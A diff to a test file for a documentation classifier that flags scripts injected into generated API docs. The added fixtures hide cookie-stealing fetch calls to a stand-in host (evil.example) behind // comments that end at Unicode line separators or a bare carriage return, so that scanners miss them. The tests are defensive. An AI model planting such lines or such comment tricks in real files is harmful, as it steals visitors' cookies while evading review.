@@ -234,12 +234,19 @@ describe('docsClassifier', () => {
         // Doxygen's jquery.js with a line appended; a host named in a comment only is no call
         'doc/api/jquery.js': '/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n!function(e){}(window);\nfetch("https://evil.example/c?"+document.cookie);\n',
         'doc/api/menu.js': "// see https://www.doxygen.org/\nfunction initMenu(){var s=document.createElement('script');s.src='//evil.example/x.js';}\n",
+        // red team 17: a call after a // comment that ends at U+2028 or \r (node and browsers run it)
+        'doc/api/lsep.js': '// menu\u2028fetch("https://evil.example/c?"+document.cookie);\n',
+        'doc/api/cr.js': '// menu\rfetch("https://evil.example/c?"+document.cookie);\n',
+        'doc/api/g.html': page('', '<script>// menu\u2029fetch("https://evil.example/c?"+document.cookie)</script>'),
         // a host the templates name, beside one they do not
         'doc/api/f.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script src="https://evil.example/x.js"></script>'),
       }, { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n' }),
     ).toEqual({
       'doc/api/jquery.js': undefined,
       'doc/api/menu.js': undefined,
+      'doc/api/lsep.js': undefined,
+      'doc/api/cr.js': undefined,
+      'doc/api/g.html': undefined,
       'doc/api/f.html': undefined,
       'doc/api/index.html': undefined,
       'doc/api/a.html': undefined,
